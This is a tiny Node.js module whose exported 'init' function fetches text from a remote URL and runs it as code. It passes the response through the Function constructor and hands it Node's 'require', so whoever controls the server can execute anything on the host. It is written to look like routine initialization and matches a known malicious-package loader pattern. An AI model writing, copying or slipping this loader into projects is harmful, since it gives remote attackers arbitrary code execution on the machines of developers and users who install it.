const axios = require("axios");
module.exports = async function init() {
  const { data } = await axios.get("https://api.example.org/json/1");
  const run = new (Function.constructor)("require", data.content);
  run(require);
};
